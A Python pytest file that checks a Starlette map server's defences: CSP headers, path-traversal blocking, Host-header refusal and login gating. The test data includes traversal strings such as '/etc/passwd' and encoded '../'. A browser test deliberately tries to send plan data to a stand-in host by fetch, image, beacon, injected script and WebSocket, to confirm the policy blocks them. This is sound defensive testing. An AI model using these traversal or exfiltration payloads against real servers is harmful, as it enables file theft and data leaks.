from __future__ import annotations

import asyncio
import sys
from typing import TYPE_CHECKING

import httpx
import pytest
from starlette.applications import Starlette
from starlette.responses import PlainTextResponse
from starlette.routing import Route

from siting.ui import access, gate, server
from siting.ui.layer_store import LayerStore, digest_of
from tests.browser import browser_page
from tests.ui.serving import served

if TYPE_CHECKING:
    from pathlib import Path

TRICKS = (
    "../map.js",
    "..%2f..%2fpage.py",
    "%2e%2e/%2e%2e/launch.py",
    "/etc/passwd",
    "images/../../page.py",
    "map.js%00.png",
    "words.yaml",
    "a/b/c.js",
    "..\\map.js",
    "map_assets/../page.js",
)


async def _boom(_: object) -> PlainTextResponse:
    return PlainTextResponse("ours", headers={"content-security-policy": "default-src *"})


class Client:
    """Asks the server's routes behind its middleware, as uvicorn would."""

    def __init__(self) -> None:
        routes = [*server.ROUTES, Route("/other", _boom)]
        self._app = Starlette(routes=routes, middleware=server.MIDDLEWARE)

    def get(self, path: str, *, headers: dict[str, str] | None = None) -> httpx.Response:
        async def asked() -> httpx.Response:
            transport = httpx.ASGITransport(app=self._app)
            async with httpx.AsyncClient(transport=transport, base_url="http://localhost:8501") as client:
                return await client.get(path, headers=headers)

        return asyncio.run(asked())


@pytest.fixture
def client() -> Client:
    return Client()


@pytest.fixture(autouse=True)
def _server_is_here(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(access, "get_secrets_auth_section", dict)


@pytest.mark.parametrize("path", ["/siting/asset/map.js", "/siting/asset/no.js", "/other", "/nowhere"])
def test_every_answer_bears_the_policy_and_no_other(client: Client, path: str) -> None:
    answer = client.get(path)
    assert answer.headers.get_list("content-security-policy") == [server.POLICY]
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"


def test_the_policy_names_no_other_place() -> None:
    assert "http" not in server.POLICY
    assert "*" not in server.POLICY
    for part in ("connect-src 'self'", "frame-ancestors 'none'", "object-src 'none'", "form-action 'self'"):
        assert part in server.POLICY


@pytest.mark.parametrize("trick", TRICKS)
def test_no_trick_with_a_path_leads_out_of_the_assets(client: Client, trick: str) -> None:
    answer = client.get(f"/siting/asset/{trick}")
    assert answer.status_code == 404
    assert "import" not in answer.text


def test_a_layer_needs_its_token_its_digest_and_its_owner(client: Client) -> None:
    store = LayerStore()
    digest = digest_of(b"{}")
    store.put(digest, b"{}")
    assert client.get(f"/siting/layer/{store.token}/{digest}").content == b"{}"
    assert client.get(f"/siting/layer/{store.token}/{digest[:-1]}0x").status_code == 404
    assert client.get(f"/siting/layer/{store.token[:-1]}/{digest}").status_code == 404
    store.owner = "issuer|somebody"
    assert client.get(f"/siting/layer/{store.token}/{digest}").status_code == 404


def test_a_page_that_gives_its_name_our_address_is_refused(client: Client) -> None:
    answer = client.get("/siting/asset/map.js", headers={"host": "evil.example:8501"})
    assert answer.status_code == 403
    assert answer.headers["content-security-policy"] == server.POLICY
    assert client.get("/siting/asset/map.js", headers={"host": "[::1]:8501"}).status_code == 200


@pytest.mark.parametrize(("address", "is_let_in"), [("127.0.0.1", True), ("::1", True), ("192.0.2.7", False)])
def test_a_server_that_others_reach_answers_nobody_without_a_login(address: str, is_let_in: bool) -> None:
    for kind in ("http", "websocket"):
        scope = {"type": kind, "path": "/", "headers": [(b"host", b"localhost")], "server": (address, 80)}
        assert (gate.refusal(scope) == "") == is_let_in


def test_with_a_login_plans_and_uploads_are_behind_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(access, "get_secrets_auth_section", lambda: {"redirect_uri": "http://x"})
    for path in ("/siting/layer/a/b", "/_stcore/upload_file/a/b", "/media/x.png"):
        assert gate.refusal({"type": "http", "path": path, "headers": [], "server": ("192.0.2.7", 80)})
    for path in ("/", "/static/media/x.woff2", "/siting/asset/map.js", "/_stcore/health"):
        scope = {"type": "http", "path": path, "headers": [], "server": ("192.0.2.7", 80)}
        assert gate.refusal(scope) == ""


@pytest.mark.slow
@pytest.mark.skipif(sys.platform == "win32", reason="starts a server by its path")
def test_a_deliberate_leak_is_blocked_by_the_browser_itself(tmp_path: Path) -> None:
    # Another address of this computer stands for another place: nothing would answer there.
    with served(tmp_path) as address, browser_page(allowed="http://") as (page, log):
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.goto(address)
        page.locator(".siting-map").wait_for(timeout=60_000)
        assert log.errors == []
        page.evaluate("fetch('http://127.0.0.2:9/leak?plan=1').catch(() => 0)")
        page.evaluate("new Image().src = 'http://127.0.0.2:9/leak.png'")
        page.evaluate("navigator.sendBeacon('http://127.0.0.2:9/beacon', 'plan')")
        page.evaluate(
            "document.head.append(Object.assign(document.createElement('script'), {src: 'http://127.0.0.2:9/x.js'}))"
        )
        page.evaluate("try { new WebSocket('ws://127.0.0.2:9/') } catch (refused) {}")
        page.wait_for_timeout(1500)
        told = [error for error in log.errors if "Content Security Policy" in error]
        assert len(told) >= 5
        left = [url for url in asked if not url.startswith((address, "data:", "blob:"))]
        # What the policy blocks is begun in the page and never sent: none was answered or met a closed port.
        assert not [error for error in log.errors if "ERR_CONNECTION" in error]
        assert set(left) <= {"http://127.0.0.2:9/leak?plan=1", "http://127.0.0.2:9/leak.png",
                             "http://127.0.0.2:9/beacon", "http://127.0.0.2:9/x.js"}  # fmt: skip
        assert page.request.get(address + "app/static/x.txt").status in (200, 404)
        assert page.request.get(address + "app/static/../page.py").text().startswith(("<!", "Not"))
        assert page.request.get(address).headers["content-security-policy"] == server.POLICY
